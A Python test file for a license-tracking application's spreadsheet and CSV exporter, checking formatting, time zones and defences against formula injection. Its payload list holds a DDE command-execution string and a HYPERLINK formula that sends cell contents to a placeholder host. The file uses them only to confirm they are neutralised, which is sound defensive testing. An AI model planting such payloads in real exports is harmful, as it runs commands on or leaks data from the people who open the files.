"""What leaves the house: real numbers and dates, texts that stay texts, nothing that a spreadsheet program would
run."""
# ruff: noqa: DTZ001 - wall time without a zone is what spreadsheets hold

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from licensetrack.exchange.ledgers import LEDGERS
from licensetrack.exchange.ledgers_out import ledger_columns
from licensetrack.exchange.spreadsheet_out import OutputColumn, write_csv, write_xlsx

# Beginnings that spreadsheet programs run, and what attackers put behind them.
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'="]
BODIES = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?"&A1,"x")', "SUM(A1:A9)"]
PAYLOADS = [start + body for start in STARTS for body in BODIES]

COLUMNS = [
    OutputColumn("单位名称"),
    OutputColumn("CPU数量", "whole"),
    OutputColumn("金额", "money"),
    OutputColumn("发放日期", "day"),
    OutputColumn("受理时间", "moment"),
    OutputColumn("通过率", "percent"),
]
ROW = (
    "深圳市教育局",
    4375,
    Decimal("75150000.00"),
    dt.date(2024, 3, 5),
    dt.datetime(2024, 4, 22, 15, 42),
    Decimal("87.23"),
)


def as_xlsx(rows: list[Any], columns: list[OutputColumn], **options: Any) -> Any:
    out = io.BytesIO()
    assert write_xlsx(rows, columns, out, **options) == len(rows)
    return openpyxl.load_workbook(out)


def as_csv(rows: list[Any], columns: list[OutputColumn]) -> list[list[str]]:
    out = io.BytesIO()
    assert write_csv(rows, columns, out) == len(rows)
    text = out.getvalue().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_workbook_holds_real_numbers_and_dates() -> None:
    page = as_xlsx([ROW], COLUMNS)["Sheet1"]
    assert [cell.value for cell in page[1]] == [column.heading for column in COLUMNS]
    values = [cell.value for cell in page[2]]
    assert values[:3] == ["深圳市教育局", 4375, 75_150_000]
    assert values[3:] == [dt.datetime(2024, 3, 5), dt.datetime(2024, 4, 22, 15, 42), 87.23]
    assert [cell.data_type for cell in page[2]] == ["s", "n", "n", "d", "d", "n"]
    assert page[2][1].number_format == "#,##0"


def test_the_heading_stays_in_sight_and_can_be_filtered_by() -> None:
    page = as_xlsx([ROW, ROW], COLUMNS)["Sheet1"]
    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref == "A1:F3"
    assert page["A1"].font.bold
    assert page.column_dimensions["A"].width >= 20


def test_an_export_without_rows_is_a_workbook_with_its_heading() -> None:
    page = as_xlsx([], COLUMNS)["Sheet1"]
    assert page.max_row == 1
    assert page["A1"].value == "单位名称"


def test_nothing_is_written_for_what_is_not_known() -> None:
    page = as_xlsx([(None, None, None, None, None, None), ("", 0, 0, None, None, 0)], COLUMNS)["Sheet1"]
    assert [cell.value for cell in page[2]] == [None] * 6
    assert [cell.value for cell in page[3]] == [None, 0, 0, None, None, 0]


def test_moments_are_shown_as_a_clock_in_shanghai_shows_them() -> None:
    instant = dt.datetime(2024, 12, 31, 16, 30, tzinfo=dt.UTC)
    assert as_xlsx([(instant,)], [OutputColumn("时间", "moment")])["Sheet1"]["A2"].value == dt.datetime(
        2025, 1, 1, 0, 30
    )
    assert as_csv([(instant,)], [OutputColumn("时间", "moment")])[1] == ["2025-01-01 00:30"]


def test_the_same_rows_give_the_same_bytes() -> None:
    outs = [io.BytesIO(), io.BytesIO()]
    for out in outs:
        write_xlsx([ROW], COLUMNS, out, created=dt.datetime(2025, 1, 1))
    assert outs[0].getvalue() == outs[1].getvalue()


def test_a_sheet_name_that_a_workbook_cannot_bear_is_mended() -> None:
    assert (
        as_xlsx([], COLUMNS, sheet="2024/台账: [全部] 很长很长很长很长很长很长很长很长很长")
        .sheetnames[0]
        .startswith("2024 台账")
    )


@pytest.mark.parametrize("kind", list(LEDGERS))
def test_no_column_of_a_workbook_can_carry_a_formula(kind: Any) -> None:
    columns = ledger_columns(kind)
    out = io.BytesIO()
    write_xlsx(([payload] * len(columns) for payload in PAYLOADS), columns, out)
    with zipfile.ZipFile(out) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f" not in sheet
        assert b"<hyperlink" not in sheet
        assert not any("external" in name.lower() for name in archive.namelist())
    rows = list(openpyxl.load_workbook(out)["Sheet1"].iter_rows(min_row=2))
    assert len(rows) == len(PAYLOADS)
    assert {cell.data_type for row in rows for cell in row} <= {"s", "inlineStr"}


@pytest.mark.parametrize("kind", list(LEDGERS))
def test_no_column_of_a_text_table_can_carry_a_formula(kind: Any) -> None:
    columns = ledger_columns(kind)
    written = as_csv([[payload] * len(columns) for payload in PAYLOADS], columns)
    assert written[1:] == [["'" + payload] * len(columns) for payload in PAYLOADS]


def test_negative_numbers_stay_numbers_in_a_text_table() -> None:
    row = (-16, Decimal("-300.50"), -1.5, "-16", "SQ-2024-0001", True)
    assert as_csv([row], [OutputColumn(str(i)) for i in range(6)])[1] == [
        "-16",
        "-300.50",
        "-1.5",
        "'-16",
        "SQ-2024-0001",
        "TRUE",
    ]


def test_a_text_table_begins_with_the_mark_that_spreadsheet_programs_look_for() -> None:
    out = io.BytesIO()
    write_csv([ROW], COLUMNS, out)
    assert out.getvalue().startswith(b"\xef\xbb\xbf" + "单位名称".encode())
    assert out.getvalue().endswith("深圳市教育局,4375,75150000.00,2024-03-05,2024-04-22 15:42,87.23\r\n".encode())


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=20), min_size=2, max_size=2))
def test_every_text_survives_a_text_table_and_none_begins_like_a_formula(texts: list[str]) -> None:
    written = as_csv([texts], [OutputColumn("甲"), OutputColumn("乙")])[1]
    for text, cell in zip(texts, written, strict=True):
        assert cell in {text, "'" + text}
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


def test_a_long_export_is_written_as_it_comes_and_kept_nowhere(tmp_path: Path) -> None:
    given_out = 0

    def rows() -> Any:
        nonlocal given_out
        for i in range(20_000):
            given_out += 1
            yield (f"单位{i}", i)

    path = tmp_path / "long.xlsx"
    assert write_xlsx(rows(), COLUMNS[:2], str(path)) == 20_000
    assert given_out == 20_000
    page = openpyxl.load_workbook(path, read_only=True)["Sheet1"]
    assert page.max_row == 20_001
